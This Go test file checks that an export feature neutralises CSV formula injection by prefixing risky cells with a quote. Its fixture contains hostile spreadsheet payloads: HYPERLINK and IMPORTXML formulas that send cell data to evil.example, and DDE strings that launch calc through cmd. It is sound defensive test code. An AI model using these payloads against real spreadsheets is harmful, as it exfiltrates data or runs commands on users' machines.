package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/batonhq/baton/cmd/baton/export"
	"github.com/batonhq/baton/routing"
)

// handoffsSource is an export.Source holding handoffs in memory.
type handoffsSource []routing.Handoff

func (s handoffsSource) ExportHandoffs(_ context.Context, _, _ time.Time, each func(routing.Handoff) error) error {
	for _, h := range s {
		if err := each(h); err != nil {
			return err
		}
	}
	return nil
}

func (s handoffsSource) AnsweredQuestions(context.Context, time.Time, time.Time) ([]string, error) {
	var ids []string
	for _, h := range s {
		for _, a := range h.Lead.Answers {
			ids = append(ids, a.QuestionID)
		}
	}
	return ids, nil
}

// TestExportNeutralizesFormulas exports a lead whose every typed field
// starts with a character a spreadsheet reads as the start of a formula:
// in the CSV each such cell starts with a single quote (OWASP's CSV
// injection advice) and every cell is quoted, so that no cell runs as a
// formula; the numbers Baton writes itself are left as numbers; the JSON
// keeps every value exactly as typed.
func TestExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	checklist := routing.Checklist{Name: "hostile", Questions: []routing.Question{
		{ID: "summary", Label: "Summary", Type: routing.TypeText},
		{ID: "delta", Label: "Delta", Type: routing.TypeNumber},
	}}
	at := time.Date(2026, 1, 5, 9, 30, 0, 0, time.UTC)
	hostile := map[string]string{
		"company":        `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
		"contact_name":   "@SUM(1+1)*cmd|' /C calc'!A0",
		"contact_title":  "-2+3+cmd|' /C calc'!A0",
		"phone":          "+14155550100",
		"email":          "\tx@evil.example",
		"cancel_reason":  "\r=1+1",
		"answer.summary": "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
	}
	h := routing.Handoff{ID: 7, State: routing.StateCancelled, Pool: "closers", PasserID: "U0SDR", CreatedAt: at, CancelledAt: at.Add(time.Minute),
		CancelReason: hostile["cancel_reason"],
		Lead: routing.Lead{Company: hostile["company"], ContactName: hostile["contact_name"], ContactTitle: hostile["contact_title"],
			Phone: hostile["phone"], Email: hostile["email"], Checklist: checklist,
			Answers: []routing.Answer{{QuestionID: "summary", Text: hostile["answer.summary"]}, {QuestionID: "delta", Number: -12.5}}}}
	plain := routing.Handoff{ID: 8, State: routing.StateCancelled, Pool: "closers", PasserID: "U0SDR", CreatedAt: at, CancelledAt: at,
		CancelReason: "Said 'no' = done", Lead: routing.Lead{Company: "Acme, \"The\" Corp", ContactName: "Dana", Checklist: checklist}}
	src := handoffsSource{h, plain}
	policy := routing.Policy{Checklist: checklist, Location: time.UTC}
	ctx := context.Background()

	var out bytes.Buffer
	require.NoError(t, export.Write(ctx, &out, src, export.CSV, policy, at, at.Add(time.Hour)))
	records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	require.NoError(t, err, "RFC 4180")
	require.Len(t, records, 3)
	row := map[string]string{}
	for i, col := range records[0] {
		row[col] = records[1][i]
	}
	for col, typed := range hostile {
		require.Equal(t, "'"+typed, row[col], "%s starts with a quote, then the value as typed", col)
	}
	require.Equal(t, "-12.5", row["answer.delta"], "a number answer stays a number")
	require.Equal(t, "7", row["id"])
	require.Equal(t, "Acme, \"The\" Corp", records[2][4], "a value that starts with no formula character is exact")
	require.Equal(t, "Said 'no' = done", records[2][len(records[2])-2])
	for i, line := range strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n") {
		if i == 0 || strings.HasPrefix(line, "7,") || strings.HasPrefix(line, `"7"`) {
			// Every cell quoted: a spreadsheet splitting on another
			// separator (a semicolon) cannot start a cell inside a value.
			require.True(t, strings.HasPrefix(line, `"`) && strings.Contains(line, `","`), "line %d is quoted: %s", i, line)
		}
	}

	out.Reset()
	require.NoError(t, export.Write(ctx, &out, src, export.JSON, policy, at, at.Add(time.Hour)))
	rows := readJSON(t, out.String())
	require.Len(t, rows, 2)
	for col, typed := range hostile {
		if id, ok := strings.CutPrefix(col, "answer."); ok {
			require.Equal(t, typed, rows[0].answers[id], "JSON is exact")
			continue
		}
		require.Equal(t, typed, rows[0].fields[col], "JSON is exact")
	}
}
